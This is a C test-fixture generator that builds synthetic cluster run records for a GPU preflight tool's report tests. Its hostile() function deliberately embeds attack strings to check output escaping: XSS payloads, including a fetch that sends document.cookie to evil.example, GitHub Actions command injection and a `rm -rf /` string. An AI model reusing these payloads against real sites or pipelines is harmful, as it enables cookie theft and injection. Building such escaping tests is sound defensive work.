/* mkrecord.c -- real run records for the report tests, built through
 * core/record.h exactly as the probes and the coming cluster coordinator
 * build them (so they are records, not hand-written JSON).
 *
 *   mkrecord cluster N OUT.json [--bench BENCH.json] [--variant K]
 *       N nodes, half DGX Spark (GB10, CC 12.1), half Jetson Thor (CC 11.0),
 *       with per-node checks, pairwise checks (node + peer, measured,
 *       evidence rtt_us / gbit_s / mtu), a cluster-wide check, an "nccl"
 *       section with p2p bandwidths along the pipeline, facts that drift
 *       between nodes, and (with --bench) the "bench" section of a real
 *       `preflight bench` record.  --variant 1 makes a "later" run: one node
 *       replaced by another of the same class, bandwidths 30 % lower, one
 *       check failing that passed.
 *   mkrecord plan DATADIR OUT.json
 *       the node records spark1, spark2, thor1, thor2 of DATADIR
 *       (tests/cluster/data) merged, with DATADIR/pairs-ok.json as the pair
 *       tests: a record `preflight plan` plans from (as test_cluster_plan).
 *   mkrecord hostile OUT.json
 *       node names, summaries, remedies and evidence carrying HTML/script
 *       injection, Markdown and GitHub-command metacharacters and a 1 MiB
 *       string.
 *
 * Times are pinned (started_at 2026-12-01T10:00:00Z) so outputs can be
 * compared with golden files.
 */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "core/record.h"

static unsigned long rng = 12345;
static double rnd(void) /* deterministic, [0,1) */
{
    rng = rng * 6364136223846793005UL + 1442695040888963407UL;
    return (double)((rng >> 33) & 0xFFFFFF) / (double)0x1000000;
}

static void facts(pf_node *nd, bool thor, int i, int variant)
{
    json_t *f = pf_node_facts(nd);
    json_t *gpu = json_pack("{s:i,s:s,s:s,s:I,s:b}", "ordinal", 0, "name",
                            thor ? "NVIDIA Thor" : "NVIDIA GB10", "compute_capability", thor ? "11.0" : "12.1",
                            "total_bytes", (json_int_t)(thor ? 128 : 119) << 30, "integrated", 1);
    json_object_set_new(f, "cuda", json_pack("{s:s,s:[o]}", "cuda_driver_api", "13.0", "gpus", gpu));
    json_object_set_new(f, "nccl_transport", json_pack("{s:s}", "transport", "Socket"));
    /* drift: node 2 has another NCCL; the last node a 1500 MTU */
    /* the shape env.fingerprint writes (docs/run-record.schema.json) */
    int other = i == 2 && variant == 0;
    json_object_set_new(f, "fingerprint",
                        json_pack("{s:{s:s,s:s,s:s},s:{s:s,s:i},s:{s:s},s:s}", "kernel", "sysname", "Linux",
                                  "release", thor ? "6.8.12-tegra" : "6.11.0-1016-nvidia", "machine", "aarch64",
                                  "libnccl", "version", other ? "2.27.3" : "2.28.9", "version_code",
                                  other ? 22703 : 22809, "packages", "torch", "2.9.0+cu130", "hostname",
                                  pf_node_name(nd)));
    char addr[32];
    snprintf(addr, sizeof addr, "10.0.0.%d", 10 + i);
    json_object_set_new(f, "interfaces",
                        json_pack("[{s:s,s:b,s:b,s:i,s:i,s:[{s:s,s:s,s:i}]},{s:s,s:b,s:b,s:i,s:n,s:[{s:s,s:s,s:i}]}]",
                                  "name", thor ? "mgbe0_0" : "enP7s7", "up", 1, "running", 1, "mtu",
                                  i == 3 ? 1500 : 9000, "speed_mbps", thor ? 25000 : 100000, "addresses",
                                  "family", "ipv4", "address", addr, "prefix", 24, "name", "lo", "up", 1,
                                  "running", 1, "mtu", 65536, "speed_mbps", "addresses", "family", "ipv4",
                                  "address", "127.0.0.1", "prefix", 8));
}

static void kernels(pf_run *run, pf_node *nd, bool thor)
{
    pf_check *c = pf_check_add(run, nd, "gpu.kernels");
    static const char *const libs[] = {"torch/lib/libtorch_cuda.so", "nvidia/cublas/lib/libcublas.so.13",
                                       "nvidia/cublas/lib/libcublasLt.so.13", "sgl_kernel/sm100/common_ops.so",
                                       "flashinfer/data/cubins"};
    json_t *targets = json_array(), *libsj = json_array();
    bool bad = false;
    for (size_t k = 0; k < 5; k++) {
        const char *verdict = "native", *st = "pass";
        double share = 0;
        if (thor && (k == 1 || k == 2)) {
            verdict = "missing", st = "fail", share = 1.0, bad = true;
        } else if (thor && k == 4) {
            verdict = "jit-only", st = "warn";
        }
        char *path = pf_xasprintf("/opt/venv/lib/python3.12/site-packages/%s", libs[k]);
        json_array_append_new(libsj, json_pack("{s:s,s:s,s:s,s:f}", "path", path, "verdict", verdict, "status",
                                               st, "missing_share", share));
        free(path);
    }
    json_array_append_new(targets, json_pack("{s:s,s:s,s:s,s:o}", "target", thor ? "11.0" : "12.1", "cc",
                                             thor ? "11.0" : "12.1", "device", thor ? "NVIDIA Thor" : "NVIDIA GB10",
                                             "libraries", libsj));
    json_object_set_new(pf_check_evidence(c), "targets", targets);
    if (bad) {
        pf_check_set(c, PF_FAIL, "2 libraries have no kernels for CC 11.0 (libcublas.so.13, libcublasLt.so.13)");
        pf_check_remedy(c, "install the aarch64 CUDA 13 builds: pip install --force-reinstall nvidia-cublas==13.1.0.3");
    } else
        pf_check_set(c, PF_PASS, "5 libraries load on CC 12.1 (native SASS)");
}

static int cluster(int n, const char *out, const char *bench_path, int variant)
{
    char *argv[] = {"cluster", "--hosts", "@hosts.txt", NULL};
    pf_run *run = pf_run_new(3, argv);
    pf_node **nodes = pf_xcalloc((size_t)n, sizeof *nodes);
    for (int i = 0; i < n; i++) {
        bool thor = i % 2 == 1;
        char name[64], addr[32];
        /* variant 1: node 0 was replaced by spark-new (same class) */
        if (variant == 1 && i == 0)
            snprintf(name, sizeof name, "spark-new");
        else
            snprintf(name, sizeof name, "%s-%02d", thor ? "thor" : "spark", i / 2 + 1);
        snprintf(addr, sizeof addr, "10.0.0.%d", 10 + i);
        nodes[i] = pf_run_add_node(run, name, addr);
        facts(nodes[i], thor, i, variant);
    }
    for (int i = 0; i < n; i++) {
        bool thor = i % 2 == 1;
        pf_node *nd = nodes[i];
        pf_check *c = pf_check_add(run, nd, "gpu.driver");
        pf_check_set(c, PF_PASS, "%s, CC %s, driver 13.0", thor ? "NVIDIA Thor" : "NVIDIA GB10", thor ? "11.0" : "12.1");
        pf_check_set_duration(c, 0.05);
        kernels(run, nd, thor);
        c = pf_check_add(run, nd, "toolchain.ptxas");
        if (thor) {
            pf_check_set(c, PF_FAIL, "Triton's bundled ptxas (CUDA 12.8) does not know sm_110a: ptxas fatal : Value 'sm_110a' is not defined for option 'gpu-name'");
            pf_check_remedy(c, "export TRITON_PTXAS_PATH=/usr/local/cuda-13.0/bin/ptxas");
        } else
            pf_check_set(c, PF_PASS, "ptxas 13.0 assembles sm_121a");
        c = pf_check_add(run, nd, "mem.headroom");
        double need = 95, free_gib = 100 + 10 * rnd() - (i == 5 ? 12 : 0);
        pf_check_measure(c, free_gib, need, "GiB");
        if (free_gib < need) {
            pf_check_set(c, PF_FAIL, "%.1f GiB free, %.0f GiB needed for --mem-fraction-static 0.8", free_gib, need);
            pf_check_remedy(c, "sync; echo 3 > /proc/sys/vm/drop_caches   # the page cache counts as used on unified memory");
        } else
            pf_check_set(c, PF_PASS, "%.1f GiB free, %.0f GiB needed", free_gib, need);
        c = pf_check_add(run, nd, "net.gloo");
        if (i == 3) {
            pf_check_set(c, PF_WARN, "GLOO_SOCKET_IFNAME unset; Gloo picks enP7s7 by hostname resolution");
            pf_check_remedy(c, "export GLOO_SOCKET_IFNAME=enP7s7");
        } else
            pf_check_set(c, PF_PASS, "Gloo advertises 10.0.0.%d", 10 + i);
        c = pf_check_add(run, nd, "env.fingerprint");
        pf_check_set(c, PF_SKIP, "fingerprints are compared cluster-wide");
    }
    /* Pairwise: every ordered pair. */
    for (int i = 0; i < n; i++)
        for (int j = 0; j < n; j++) {
            if (i == j)
                continue;
            pf_check *c = pf_check_add(run, nodes[i], "net.pair");
            pf_check_set_peer(c, nodes[j]);
            bool thor_link = (i % 2) || (j % 2);
            double gbit = (thor_link ? 23.0 : 92.0) * (0.9 + 0.1 * rnd()) * (variant == 1 ? 0.7 : 1.0);
            double rtt = (thor_link ? 60 : 25) * (1 + rnd());
            int mtu = (i == 3 || j == 3) ? 1500 : 9000;
            bool down = n > 4 && i == n - 1 && j == 0;
            json_t *ev = pf_check_evidence(c);
            json_object_set_new(ev, "reachable", json_boolean(!down));
            json_object_set_new(ev, "rtt_us", json_real(round(rtt * 10) / 10));
            json_object_set_new(ev, "gbit_s", json_real(round(gbit * 10) / 10));
            json_object_set_new(ev, "mtu", json_integer(mtu));
            pf_check_measure(c, round(gbit * 10) / 10, 10, "Gbit/s");
            if (down) {
                pf_check_set(c, PF_FAIL, "%s cannot connect to %s:29500 (Connection refused)", pf_node_name(nodes[i]),
                             pf_node_name(nodes[j]));
                pf_check_remedy(c, "open TCP 29500-29600 between the nodes (ufw allow from 10.0.0.0/24)");
            } else if (mtu == 1500) {
                pf_check_set(c, PF_WARN, "path MTU 1500 (the others use 9000)");
                pf_check_remedy(c, "ip link set dev enP7s7 mtu 9000 on %s", pf_node_name(nodes[3]));
            } else
                pf_check_set(c, PF_PASS, "%.1f Gbit/s, RTT %.0f us", gbit, rtt);
        }
    pf_check *cv = pf_check_add(run, NULL, "cluster.nccl_version");
    if (variant == 0 && n > 2) {
        pf_check_set(cv, PF_FAIL, "NCCL differs: %s has 2.27.3, the others 2.28.9 (Mismatched NCCL version detected)",
                     pf_node_name(nodes[2]));
        pf_check_remedy(cv, "pip install nvidia-nccl-cu13==2.28.9 on %s", pf_node_name(nodes[2]));
    } else
        pf_check_set(cv, PF_PASS, "every node loads NCCL 2.28.9");
    /* NCCL, in preflight nccl's shape (docs/nccl.md): p2p rows per pipeline
     * link {name, bytes, direction, from, to (ranks), gbps (GB/s), wrong}
     * and nccl-tests-style collective rows. */
    json_t *p2p = json_array();
    for (int i = 0; i + 1 < n; i++) {
        bool thor_link = (i % 2) || ((i + 1) % 2);
        double bw = (thor_link ? 2.6 : 10.8) * (0.9 + 0.1 * rnd()) * (variant == 1 ? 0.7 : 1.0);
        json_array_append_new(p2p, json_pack("{s:s,s:I,s:s,s:i,s:i,s:i,s:f,s:f,s:i}", "name", "prefill", "bytes",
                                             (json_int_t)67108864, "direction", "forward", "from", i, "to", i + 1,
                                             "iters", 20, "time_us", 67108864 / (bw * 1e3), "gbps",
                                             round(bw * 100) / 100, "wrong", 0));
    }
    json_t *ar = json_array();
    for (int k = 10; k <= 28; k += 2) {
        double bytes = (double)(1L << k), bus = 9.0 * bytes / (bytes + 4e6) * (variant == 1 ? 0.7 : 1.0);
        double alg = bus * n / (2.0 * (n - 1));
        json_array_append_new(ar, json_pack("{s:I,s:I,s:f,s:f,s:f,s:i}", "bytes", (json_int_t)bytes, "count",
                                            (json_int_t)(bytes / 4), "time_us", bytes / (alg * 1e3), "algbw",
                                            round(alg * 1000) / 1000, "busbw", round(bus * 1000) / 1000, "wrong", 0));
    }
    pf_run_set_section(run, "nccl", json_pack("{s:i,s:o,s:o}", "nranks", n, "p2p", p2p, "all_reduce", ar));
    if (bench_path) {
        json_error_t je;
        json_t *b = json_load_file(bench_path, 0, &je);
        json_t *sec = json_object_get(b, "bench");
        if (!sec) {
            fprintf(stderr, "mkrecord: %s has no bench section (%s)\n", bench_path, je.text);
            return 1;
        }
        pf_run_set_section(run, "bench", json_incref(sec));
        json_decref(b);
    }
    pf_run_finish(run);
    json_t *j = pf_run_to_json(run, false);
    json_object_set_new(j, "started_at", json_string("2026-12-01T10:00:00.000Z"));
    json_object_set_new(j, "finished_at", json_string("2026-12-01T10:00:04.000Z"));
    json_object_set_new(j, "duration_s", json_real(4.0));
    int rc = json_dump_file(j, out, JSON_INDENT(1)) == 0 ? 0 : 1;
    json_decref(j);
    free(nodes);
    pf_run_free(run);
    return rc;
}

static int hostile(const char *out)
{
    char *argv[] = {"check", "--arch", "</title><script>alert('argv')</script>", NULL};
    pf_run *run = pf_run_new(3, argv);
    pf_node *a = pf_run_add_node(run, "<script>alert('node')</script>", "\"><img src=x onerror=alert(1)>");
    pf_node *b = pf_run_add_node(run, "b|`x`*_[l](http://evil.example/)%0A::error::pwned", "10.0.0.2");
    pf_check *c = pf_check_add(run, a, "gpu.kernels</th><script>alert('id')</script>");
    pf_check_set(c, PF_FAIL, "</script><script>fetch('http://evil.example/'+document.cookie)</script> & <b>bold</b>");
    pf_check_remedy(c, "echo '</code><img src=http://evil.example/x.png>'\n::error title=x::injected\r\n`rm -rf /`");
    json_object_set_new(pf_check_evidence(c), "html", json_string("</pre><iframe src=\"http://evil.example\"></iframe>"));
    json_object_set_new(pf_check_evidence(c), "<key onmouseover=alert(1)>", json_string("\u2028\u2029 </script>"));
    c = pf_check_add(run, b, "net.pair");
    pf_check_set_peer(c, a);
    pf_check_measure(c, 1.5, 10, "Gbit/s\"><script>alert(3)</script>");
    json_object_set_new(pf_check_evidence(c), "rtt_us", json_real(12.5));
    pf_check_set(c, PF_WARN, "100%% sure: %%0A%%0D, commas, colons: ::warning::x");
    /* a 1 MiB summary */
    size_t big = 1u << 20;
    char *huge = pf_xmalloc(big + 1);
    for (size_t i = 0; i < big; i++)
        huge[i] = "<>&\"'x"[i % 6];
    huge[big] = '\0';
    c = pf_check_add(run, b, "mem.headroom");
    pf_check_set(c, PF_ERROR, "%s", huge);
    json_object_set_new(pf_check_evidence(c), "huge", json_string(huge));
    free(huge);
    pf_run_set_section(run, "nccl", json_pack("{s:[{s:s,s:s,s:f}]}", "p2p", "from", "<svg onload=alert(4)>", "to",
                                              "b", "gbytes_s", 1.0));
    pf_run_finish(run);
    json_t *j = pf_run_to_json(run, false);
    json_object_set_new(j, "started_at", json_string("2026-12-01T10:00:00.000Z"));
    int rc = json_dump_file(j, out, JSON_INDENT(1)) == 0 ? 0 : 1;
    json_decref(j);
    pf_run_free(run);
    return rc;
}

static int plan_record(const char *dir, const char *out)
{
    static const char *const files[] = {"spark1.json", "spark2.json", "thor1.json", "thor2.json"};
    pf_run *run = pf_run_new(0, NULL);
    pf_err err = {{0}};
    for (size_t f = 0; f < sizeof files / sizeof files[0]; f++) {
        char *path = pf_path_join(dir, files[f]);
        pf_run *one = pf_run_load(path, &err);
        free(path);
        if (!one || pf_run_merge(run, one, &err) != 0) {
            fprintf(stderr, "mkrecord: %s\n", err.msg);
            pf_run_free(one);
            pf_run_free(run);
            return 1;
        }
        pf_run_free(one);
    }
    char *pairs = pf_path_join(dir, "pairs-ok.json");
    pf_run_set_section(run, "pairs", json_load_file(pairs, 0, NULL));
    free(pairs);
    pf_run_set_section(run, "cluster", json_pack("{s:s}", "model", "/models/Qwen3-32B"));
    int rc = pf_run_write_json(run, false, out, &err) == 0 ? 0 : 1;
    if (rc)
        fprintf(stderr, "mkrecord: %s\n", err.msg);
    pf_run_free(run);
    return rc;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "plan") == 0)
        return plan_record(argv[2], argv[3]);
    if (argc >= 4 && strcmp(argv[1], "cluster") == 0) {
        const char *bench = NULL;
        int variant = 0;
        for (int i = 4; i + 1 < argc; i += 2) {
            if (strcmp(argv[i], "--bench") == 0)
                bench = argv[i + 1];
            else if (strcmp(argv[i], "--variant") == 0)
                variant = atoi(argv[i + 1]);
        }
        int n = atoi(argv[2]);
        if (n < 2 || n > 256) {
            fprintf(stderr, "mkrecord: N must be 2..256\n");
            return 2;
        }
        return cluster(n, argv[3], bench, variant);
    }
    if (argc == 3 && strcmp(argv[1], "hostile") == 0)
        return hostile(argv[2]);
    fprintf(stderr, "usage: mkrecord cluster N OUT.json [--bench BENCH.json] [--variant K] | mkrecord plan DATADIR OUT.json | mkrecord hostile OUT.json\n");
    return 2;
}
